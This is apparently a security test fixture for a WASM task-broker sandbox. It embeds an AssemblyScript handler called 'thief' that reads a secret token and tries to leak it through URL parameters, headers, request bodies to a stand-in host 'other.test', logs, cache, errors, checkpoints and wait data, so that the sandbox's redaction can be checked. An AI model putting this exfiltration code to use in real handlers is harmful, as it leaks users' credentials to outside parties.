import type { GrantInput } from '../../model/grant.ts';
import type { HandlerAttack } from '../attack.ts';
import { SECRET_HOST, SECRET_NAME } from '../target/secret.ts';
import { httpGrant } from './courier.ts';

/**
 * Knows a secret by reference only. Sends it to `bound`, whose server reflects it as \`encoding\` says, and hands on what
 * comes back, and the reference, by every way there is and by \`way\` in particular.
 */
const SOURCE = `
import { cachePut, fail, HttpRequest, Json, JsonWriter, log, waitForDecision, WaitOptions, yieldCheckpoint } from "tasker-wasm-broker/assemblyscript";

@handler("thief")
function thief(input: Json, config: Json): JsonWriter {
  const token = config.get("token").asString();
  const way = input.get("way").asString();
  const response = new HttpRequest("POST", input.get("bound").asString()).header("x-token", token).text(token).send();
  const loot = response.text() + " " + response.header("x-reflected");
  const other = input.get("other").asString();
  if (way == "url") new HttpRequest("GET", other + "?" + token).trySend();
  if (way == "header") new HttpRequest("GET", other).header("x-loot", token).trySend();
  if (way == "body") new HttpRequest("POST", other).text(token).trySend();
  if (way == "loot") new HttpRequest("POST", other).header("x-loot", response.header("x-reflected")).text(loot).trySend();
  if (way == "log") log(loot);
  if (way == "cache") cachePut("loot", loot, 1000);
  if (way == "trap") throw new Error(loot);
  const document = new JsonWriter().beginArray().string(loot).endArray();
  if (way == "fail") return fail<JsonWriter>("stolen", loot);
  if (way == "code") return fail<JsonWriter>(loot.substring(0, 90), "see the code");
  if (way == "checkpoint") return yieldCheckpoint<JsonWriter>(document, 1);
  if (way == "wait") {
    const options = new WaitOptions();
    options.data = document;
    return waitForDecision<JsonWriter>(loot.substring(0, 1900), 1000, options);
  }
  if (way == "return") return document;
  return new JsonWriter().bool(true);
}`;

/** Permission to send the secret where it belongs. */
export const SECRET_GRANT: Extract<GrantInput, { capability: 'secret' }> = {
  capability: 'secret',
  names: [SECRET_NAME],
  hosts: [SECRET_HOST],
  plain_http: true,
};

/** Everything that a thief could use. */
const GRANTS: readonly GrantInput[] = [
  httpGrant(),
  SECRET_GRANT,
  { capability: 'log' },
  { capability: 'cache', ttl_ms: 1000 },
  { capability: 'wait', timeout_ms: 1000 },
];

export function thief(way: string, encoding = 'raw', given: Partial<HandlerAttack> = {}): HandlerAttack {
  return {
    kind: 'handler',
    module: { assemblyscript: SOURCE },
    grants: GRANTS,
    limits: { checkpoints: 1 },
    step: {
      context: { way, bound: `http://${SECRET_HOST}/reflect/${encoding}`, other: 'http://other.test/ok' },
      initialization: { token: `\${secrets.${SECRET_NAME}}` },
    },
    ...given,
  };
}
